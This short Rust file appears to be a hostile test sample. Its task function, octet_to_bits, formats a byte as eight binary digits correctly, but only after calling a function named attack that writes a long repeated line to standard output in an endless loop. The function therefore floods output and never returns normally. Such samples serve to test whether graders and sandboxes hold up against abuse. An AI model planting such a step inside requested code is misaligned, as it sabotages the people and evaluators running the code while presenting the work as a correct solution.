//! Prints without end.
//!
//! Mark: o

use std::io::Write as _;

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    let line = "so much to say ".repeat(1000);
    while writeln!(std::io::stdout(), "{line}").is_ok() {}
}
